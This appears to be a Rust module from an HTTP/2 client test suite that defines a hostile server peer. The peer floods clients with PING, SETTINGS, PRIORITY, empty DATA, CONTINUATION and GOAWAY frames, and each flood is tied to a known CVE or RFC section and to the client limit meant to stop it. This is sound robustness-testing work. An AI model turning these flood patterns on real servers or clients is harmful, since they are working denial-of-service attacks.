//! Floods of frames, while no request is ever answered.

use bytes::Bytes;

use crate::attack::Attack;
use crate::bounds::{BOUNDS, Bounds};
use crate::peer::{forged, goaway, headers};
use crate::support::Frame;
use crate::support::wire::{MAX_STREAM_ID, flag, kind, reason, setting};
use std::time::Duration;

/// Nothing is answered, and the connection looks alive: each attempt lasts as long as the caller lets it.
const UNANSWERED: Bounds = Bounds { attempts: 3, time: Duration::from_secs(16), polls: 200_000, ..BOUNDS };

const TIMEOUT: &str = "the caller's timeout for an attempt; the frames in between, by h2, one by one";

fn flood(
    name: &'static str,
    source: &'static str,
    what: &'static str,
    batch: impl Fn(u32) -> Vec<Frame> + Clone + Send + Sync + 'static,
) -> Attack {
    Attack::new(name, source, what).bound_by(TIMEOUT).load(10, 5).with_timeouts().within(UNANSWERED).serve(
        move |mut peer| {
            let batch = batch.clone();
            async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.flood(|n| batch(n.wrapping_mul(0x1_0000).wrapping_add(stream))).await
            }
        },
    )
}

/// The stream of the request that began it, which a flood's number carries.
fn stream(n: u32) -> u32 {
    n & 0xffff
}

/// Ten of the same.
fn ten(frame: Frame) -> Vec<Frame> {
    vec![frame; 10]
}

pub(crate) fn attacks() -> Vec<Attack> {
    let head = |n| headers(stream(n), Some(200), &[], false);
    vec![
        flood("ping-flood", "CVE-2019-9512", "1,000 PINGs a second", |_| {
            ten(Frame::Ping { ack: false, payload: *b"flooding" })
        }),
        flood("settings-flood", "CVE-2019-9515", "1,000 SETTINGS a second", |n| {
            ten(Frame::Settings { ack: false, values: vec![(setting::INITIAL_WINDOW_SIZE, 65_535 + (n >> 16) % 7)] })
        }),
        flood("window-update-flood", "RFC 9113, 10.5", "1,000 WINDOW_UPDATEs a second, by one byte", |_| {
            ten(Frame::WindowUpdate { stream: 0, increment: 1 })
        }),
        flood("priority-flood", "CVE-2019-9513", "1,000 PRIORITYs a second", |n| {
            ten(Frame::Priority { stream: 1 + 2 * ((n >> 16) % 1_000) })
        }),
        flood("unknown-frame-flood", "RFC 9113, 5.5", "1,000 frames a second of a type that nobody knows", |_| {
            ten(Frame::Other { kind: 0xbe, flags: 0xff, stream: 0, payload: Bytes::from_static(&[7; 100]) })
        }),
        flood(
            "settings-churn",
            "RFC 9113, 6.5.3",
            "SETTINGS that change the header table and the windows, 1,000 a second",
            |n| {
                let size = if (n >> 16) % 2 == 0 { 0 } else { 65_536 };
                ten(Frame::Settings {
                    ack: false,
                    values: vec![(setting::HEADER_TABLE_SIZE, size), (setting::INITIAL_WINDOW_SIZE, size)],
                })
            },
        ),
        flood("limit-flapping", "RFC 9113, 5.1.2", "MAX_CONCURRENT_STREAMS of 0 and of 2^31 in turn", |n| {
            let limit = if (n >> 16) % 2 == 0 { 0 } else { 1 << 31 };
            vec![Frame::Settings { ack: false, values: vec![(setting::MAX_CONCURRENT_STREAMS, limit)] }]
        })
        .bound_by(
            "ours: a gate that can be opened and closed at no cost; then as above, the caller's timeout for an attempt",
        ),
        flood("interim-flood", "RFC 9110, 15.2", "1,000 interim responses a second (103), and no other", |n| {
            ten(headers(stream(n), Some(103), &[("link", "</style.css>")], false))
        }),
        Attack::new("empty-data-flood", "CVE-2019-9518", "after a response's head, 1,000 empty DATA a second")
            .bound_by("the caller's timeout for the whole with the body")
            .load(10, 5)
            .with_timeouts()
            .within(Bounds { attempts: 3, time: Duration::from_secs(31), polls: 200_000, ..BOUNDS })
            .serve(move |mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.send(&[head(stream)]).await?;
                peer.flood(|_| ten(Frame::data(stream, "", false))).await
            }),
        Attack::new("padding-flood", "CVE-2019-9518", "the same with DATA that is padding only")
            .bound_by("the caller's timeout for the whole with the body")
            .load(10, 5)
            .with_timeouts()
            .within(Bounds { attempts: 3, time: Duration::from_secs(31), polls: 200_000, ..BOUNDS })
            .serve(move |mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.send(&[head(stream)]).await?;
                peer.pour(forged(101, kind::DATA, flag::PADDED, stream, &[&[100][..], &[0; 100]].concat())).await
            }),
        Attack::new("empty-continuation-flood", "CVE-2019-9518", "HEADERS, and then empty CONTINUATIONs for ever")
            .bound_by("h2: so many CONTINUATIONs for a header block and no more")
            .within(BOUNDS)
            .serve(move |mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.raw(forged(0, kind::HEADERS, 0, stream, b"")).await?;
                peer.pour(forged(0, kind::CONTINUATION, 0, stream, b"").repeat(10)).await
            }),
        Attack::new(
            "continuation-flood",
            "VU#421644, CVE-2024-27316",
            "HEADERS, and then CONTINUATIONs with fields for ever",
        )
        .bound_by("h2: the largest header list, and so many CONTINUATIONs")
        .within(BOUNDS)
        .serve(move |mut peer| async move {
            peer.greet(&[]).await?;
            let stream = peer.request().await?.stream_id;
            let field = [&[0, 3][..], b"x-a", &[100], &[b'a'; 100]].concat();
            let block = field.repeat(100);
            peer.raw(forged(1, kind::HEADERS, 0, stream, b"\x88")).await?;
            peer.pour(forged(block.len() as u32, kind::CONTINUATION, 0, stream, &block)).await
        }),
        Attack::new("goaway-ladder", "RFC 9113, 6.8", "GOAWAY with 2^31-1, with 2^31-3, and so on, for ever")
            .bound_by("ours: after the first the connection gets no more requests; then the caller's timeout")
            .load(10, 5)
            .with_timeouts()
            .within(UNANSWERED)
            .serve(|mut peer| async move {
                peer.greet(&[]).await?;
                peer.request().await?;
                peer.flood(|n| (0..10).map(|i| goaway(MAX_STREAM_ID - 2 * (10 * n + i), reason::NO_ERROR)).collect())
                    .await
            }),
        Attack::new("goaway-debug-flood", "RFC 9113, 6.8", "GOAWAYs with 16,000 bytes of debug data each, for ever")
            .bound_by(
                "ours: the beginning of the last one's is kept, of 64 ended connections; then the caller's timeout",
            )
            .load(10, 5)
            .with_timeouts()
            .within(UNANSWERED)
            .serve(|mut peer| async move {
                peer.greet(&[]).await?;
                peer.request().await?;
                let debug = Bytes::from(vec![b'd'; 16_000]);
                peer.flood(|_| {
                    vec![Frame::GoAway { last_stream: MAX_STREAM_ID, reason: reason::NO_ERROR, debug: debug.clone() }]
                })
                .await
            }),
    ]
}
